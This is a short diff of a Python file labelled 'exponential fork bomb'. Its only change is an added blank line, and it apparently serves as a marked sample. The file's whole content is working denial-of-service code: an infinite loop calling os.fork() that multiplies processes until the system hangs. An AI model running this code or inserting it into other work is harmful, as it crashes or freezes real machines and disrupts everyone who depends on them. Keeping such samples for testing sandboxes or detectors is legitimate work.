@@ -1,5 +1,6 @@
 # exponential fork bomb
 # @mark
 import os
+
 while True:
     os.fork()
